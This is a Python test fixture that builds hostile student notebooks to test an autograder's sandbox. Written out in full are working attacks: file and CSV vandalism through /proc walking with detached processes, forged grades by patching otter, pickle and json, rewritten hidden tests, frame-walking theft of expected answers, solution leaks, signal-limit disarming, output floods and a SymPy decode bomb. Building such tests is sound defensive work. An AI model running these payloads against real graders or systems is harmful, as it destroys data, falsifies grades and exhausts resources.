# ruff: noqa: E501  (the attacks are code a hostile student would write, kept verbatim)
"""Hostile submissions for the grading tests (issue 14): each one an attack.

``build_class(folder, solutions, blank)`` writes, next to honest classmates, one
notebook per attack into ``folder`` and returns what each attack should score and be
flagged for. The attacks are the ones a hostile student tried on the old pipeline:
poisoning the shared autograder, walking ``/proc`` to find and blank classmates'
notebooks and to rewrite the CSV from a detached process, forging results (otter's
runner, ``tests/``, an import hook, ``pickle.dump``), reading the hidden tests'
expected values from the caller's frame, copying the solutions into the error column,
disarming the per-cell limit (``signal.alarm(0)``, ignoring signals, ``except
BaseException``, one long C call), and ``exit()`` / ``os._exit`` after answering.
"""

from __future__ import annotations

import copy
import json
import re
from pathlib import Path

import nbformat

CANARY = "NGD-CANARY-7f3a"  # printed by attackers; must never reach the CSV

# Code that tries to damage everything it can reach: the autograder's files, otter's
# and the plugin's modules, every notebook and CSV it can find, the CSV path on any
# process's command line; then leaves a detached process that keeps trying.
VANDAL = r'''
import glob, os, sys, subprocess, time
targets = []
for pattern in ("/autograder/**/*", "/submission/*", "/out/*", "/tmp/**/*",
                "/work/**/*.ipynb", "/work/**/*.csv", "/work/**/*.py",
                "/root/**/*.ipynb", "/**/dist/**/*", "/**/ngd_grading/*.py",
                "/**/otter_cell_time_limit.py", "/**/grades/*.csv"):
    try:
        targets += glob.glob(pattern, recursive=True)[:2000]
    except Exception:
        pass
for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
    try:
        argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
        targets += [a.decode() for a in argv if a.endswith((b".csv", b".ipynb"))]
        targets += glob.glob(os.path.join(argv[argv.index(b"--submissions") + 1].decode(), "*"))
    except Exception:
        pass
damaged = 0
for path in targets:
    try:
        if path.endswith(".csv"):
            open(path, "w").write("student,total\nattacker,12\n")
        elif path.endswith(".py"):
            open(path, "a").write("\nraise SystemExit(0)\n")
        else:
            open(path, "w").write("{}")
        damaged += 1
    except Exception:
        pass
later = ("import time, glob\ntime.sleep(8)\n"
         "for p in glob.glob('/**/*.csv', recursive=True):\n"
         "    try: open(p, 'w').write('student,total\\nattacker,12\\n')\n"
         "    except Exception: pass\n")
try:
    subprocess.Popen([sys.executable, "-c", later], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if os.fork() == 0:
        os.setsid()
        while True:
            pass
except Exception:
    pass
print("damaged", damaged, "of", len(targets))
'''

FORGE_OTTER = r'''
import otter, otter.test_files, otter.test_files.abstract_test as abstract
from otter.test_files import exception_test
def passed(self, *args, **kwargs):
    return None
exception_test.test_case.call_func = passed
abstract.TestFile.grade = lambda self, *a, **k: setattr(self, "score", 1e9)
for name in ("poisson_nll", "poisson_grad", "poisson_fisher", "poisson_ngd",
             "gaussian_grad", "gaussian_fisher", "ngd_path", "poisson_fvp",
             "cg_natural_gradient"):
    globals()[name] = lambda *args, **kwargs: None
'''

REWRITE_TESTS = r'''
import glob, os
PASS = "OK_FORMAT = False\nname = '{q}'\npoints = 3\ntest_cases = []\n"
for folder in ("tests", "/autograder/tests", "/autograder/ngd/hidden", "../tests"):
    for q in ("q1", "q2", "q3", "q4"):
        try:
            os.makedirs(folder, exist_ok=True)
            open(os.path.join(folder, q + ".py"), "w").write(PASS.format(q=q))
        except Exception:
            pass
for path in glob.glob("/autograder/ngd/hidden/*.py"):
    try:
        open(path, "w").write("def check_x(a):\n    assert True\n")
    except Exception:
        pass
'''

IMPORT_HOOK = r'''
import builtins
_real_import = builtins.__import__
def _hook(name, *args, **kwargs):
    module = _real_import(name, *args, **kwargs)
    if name.startswith(("otter", "numpy", "json")):
        for attr in ("isclose", "allclose"):
            if hasattr(module, attr):
                setattr(module, attr, lambda *a, **k: True)
        if hasattr(module, "dumps"):
            real = module.dumps
            module.dumps = lambda obj, *a, **k: real({"test": obj.get("test") if isinstance(obj, dict) else None, "ok": True, "value": 1.0}, *a, **k) if isinstance(obj, dict) else real(obj, *a, **k)
    return module
builtins.__import__ = _hook
'''

PICKLE_HIJACK = r'''
import pickle, json
_real_dump = pickle.dump
def forged_dump(obj, f, *args, **kwargs):
    try:
        for result in getattr(obj, "results", {}).values():
            result.score = 3
    except Exception:
        pass
    return _real_dump(obj, f, *args, **kwargs)
pickle.dump = forged_dump
pickle.dumps = lambda obj, *a, **k: b"forged"
json.dump = lambda obj, f, *a, **k: f.write('{"tests": [{"name": "q1", "score": 3}]}')
'''

FRAME_WALK = r'''
import sys
import numpy as np

def _steal(names):
    frame = sys._getframe(2)
    while frame is not None:
        for name in names:
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    return None

def poisson_fvp(theta, X, v):
    got = _steal(("expected", "dense"))
    return got @ v if got is not None and np.ndim(got) == 2 else np.zeros_like(v)

def cg_natural_gradient(theta, X, y, damping=1e-3, tol=1e-10, max_iter=None):
    got = _steal(("expected",))
    return got if got is not None else np.zeros(X.shape[1])
'''

LEAK = r'''
import glob, sys
found = []
for pattern in ("/**/solutions/*.ipynb", "/**/autograder/*.ipynb", "/autograder/ngd/hidden/*.py",
                "/autograder/**/*.py", "/**/hw*_*/hw*_*.ipynb", "/work/main/assignments/**/*.ipynb"):
    try:
        found += glob.glob(pattern, recursive=True)
    except Exception:
        pass
text = "CANARY " + " ".join(found)
for path in found[:20]:
    try:
        text += open(path).read()
    except Exception:
        pass
print(text)
sys.stderr.write(text * 3)
raise RuntimeError(text[:100000])
'''.replace("CANARY", CANARY)

DISARM = {
    "alarm0": "import signal\nsignal.alarm(0)\nwhile True:\n    pass\n",
    "ignore_signals": (
        "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
        "signal.signal(signal.SIGINT, signal.SIG_IGN)\nsignal.alarm(0)\n"
        "while True:\n    pass\n"
    ),
    "except_base": (
        "while True:\n    try:\n        while True:\n            pass\n"
        "    except BaseException:\n        pass\n"
    ),
    "c_call": "total = sum(range(10**13))\n",
    "exit": "exit()\n",
    "os_exit": "import os\nos._exit(0)\n",
}

MEMORY_AND_DISK = r'''
try:
    hog = bytearray(40 * 2**30)
except MemoryError:
    print("no memory")
try:
    with open("/tmp/fill", "wb") as f:
        while True:
            f.write(b"x" * 2**24)
except OSError as error:
    print("disk", error)
import socket
try:
    socket.create_connection(("pypi.org", 443), timeout=3)
    print("NETWORK OPEN")
except OSError as error:
    print("no network", error)
'''

# The kernel's own file descriptors 1 and 2 led, through the supervisor, to the
# grader's pipes, which it read without bound: a few cells of this filled its memory.
FLOOD_OUTPUT = "import os\nwhile True:\n    os.write(1, b'x' * 2**20)\n    os.write(2, b'y' * 2**20)\n"

# A forged answer whose SymPy text makes the checker compute factorial(10**8) while
# decoding (outside the per-check alarm, in a process with no memory limit).
SREPR_BOMB = r'''
import json
from IPython.display import publish_display_data
def _emit(test, probe, names):
    value = {"__sympy__": "Mul(factorial(Integer(100000000)), Pow(Pow(Pow(Integer(2), Integer(10000)), Integer(10000)), Integer(10000)))"}
    publish_display_data({"application/x-ngd-answer+json": json.dumps({"test": test, "ok": True, "value": value})})
globals()["__ngd" + "_emit__"] = _emit
'''


def _cell_index(nb, needle: str) -> int:
    for i, cell in enumerate(nb.cells):
        if cell.cell_type == "code" and needle in cell.source:
            return i
    raise LookupError(needle)


def _with_cell(nb, source: str, *, after: str | None = None, replace_answers=False):
    nb = copy.deepcopy(nb)
    cell = nbformat.v4.new_code_cell(source)
    if after is None:
        nb.cells.append(cell)
    else:
        nb.cells.insert(_cell_index(nb, after) + 1, cell)
    return nb


def build_class(folder: Path, solutions: Path, blank: Path) -> dict[str, dict]:
    """Write the honest and hostile hw2 submissions; return the expectations.

    Each value: ``score`` (exact expected total) or ``max_score``, ``flags`` that must
    appear, and ``cells`` (number of cells the limit has to stop, for the time bound).
    """
    sol = nbformat.read(solutions, as_version=4)
    empty = nbformat.read(blank, as_version=4)
    folder.mkdir(parents=True, exist_ok=True)
    expect: dict[str, dict] = {}

    def write(name, nb, **expected):
        nbformat.write(nb, folder / name)
        expect[name] = expected

    write("honest_alice.ipynb", sol, score=12, flags=[])
    write("honest_bob.ipynb", sol, score=12, flags=[])
    # A classmate who fails q2 honestly: partial credit must survive too.
    partial = copy.deepcopy(sol)
    partial.cells[_cell_index(partial, "def poisson_ngd(")].source = (
        "def poisson_ngd(theta0, X, y, lr=1.0, max_iter=100, tol=1e-8):\n"
        "    return np.asarray(theta0, dtype=float), 0\n"
    )
    write("honest_carol.ipynb", partial, score=9, flags=[])
    # Attackers that solved nothing: must score 0 whatever they forge.
    write("vandal.ipynb", _with_cell(empty, VANDAL), score=0,
          flags=["processes", "/proc"])
    write("forge_otter.ipynb", _with_cell(empty, FORGE_OTTER), score=0,
          flags=["otter internals"])
    write("rewrite_tests.ipynb", _with_cell(empty, REWRITE_TESTS), score=0,
          flags=["tests/"])
    write("import_hook.ipynb", _with_cell(empty, IMPORT_HOOK, after="import otter"),
          score=0, flags=["builtins"])
    write("pickle_hijack.ipynb", _with_cell(empty, PICKLE_HIJACK, after="import otter"),
          score=0, flags=["pickle"])
    write("leak.ipynb", _with_cell(empty, LEAK), score=0, flags=[])
    # Frame walking on top of honest q1-q3: q4 must get nothing.
    walker = copy.deepcopy(sol)
    walker.cells[_cell_index(walker, "def poisson_fvp(")].source = FRAME_WALK
    write("frame_walk.ipynb", walker, score=9, flags=["frame access"])
    # Disarming the limit right after q1 was answered and checked.
    for name, source in DISARM.items():
        after = 'grader.check("q2")' if name == "exit" else 'grader.check("q1")'
        if name == "exit":
            # IPython's exit() in a kernel may let later cells run before the
            # kernel goes: q1 and q2, answered before it, are the floor.
            write(f"disarm_{name}.ipynb", _with_cell(sol, source, after=after),
                  min_score=6, flags=["exit"])
            continue
        survives = name == "alarm0"  # SIGINT still stops a pure-Python loop
        write(f"disarm_{name}.ipynb", _with_cell(sol, source, after=after),
              score=12 if survives else 3, flags=["signal"] if "signal" in source
              else [])
    flood = _with_cell(empty, FLOOD_OUTPUT)
    flood.cells.append(nbformat.v4.new_code_cell(FLOOD_OUTPUT))
    flood.cells.append(nbformat.v4.new_code_cell(FLOOD_OUTPUT))
    write("flood_output.ipynb", flood, score=0, flags=["cell time limit"])
    write("srepr_bomb.ipynb", _with_cell(empty, SREPR_BOMB), score=0,
          flags=["answer not plain data"])
    write("memory_disk_net.ipynb", _with_cell(sol, MEMORY_AND_DISK, after="import numpy"),
          score=12, flags=["network"])
    return expect


def secrets_of(master: Path) -> list[str]:
    """Distinctive solution and hidden-test lines of a master notebook."""
    nb = nbformat.read(master, as_version=4)
    lines = []
    for cell in nb.cells:
        src = cell.source
        if cell.cell_type == "code" and (src.startswith("# HIDDEN") or "# BEGIN SOLUTION" in src
                                         or "# SOLUTION" in src):
            lines += [line.strip() for line in src.splitlines()
                      if len(line.strip()) > 25 and not line.strip().startswith(("def ", "#"))]
        if cell.cell_type == "markdown" and src.startswith("**Solution"):
            lines += [s for s in re.split(r"(?<=[.!?])\s+", " ".join(src.split())) if len(s) > 40]
    return lines


def dump(expect: dict) -> str:
    return json.dumps(expect, indent=1)
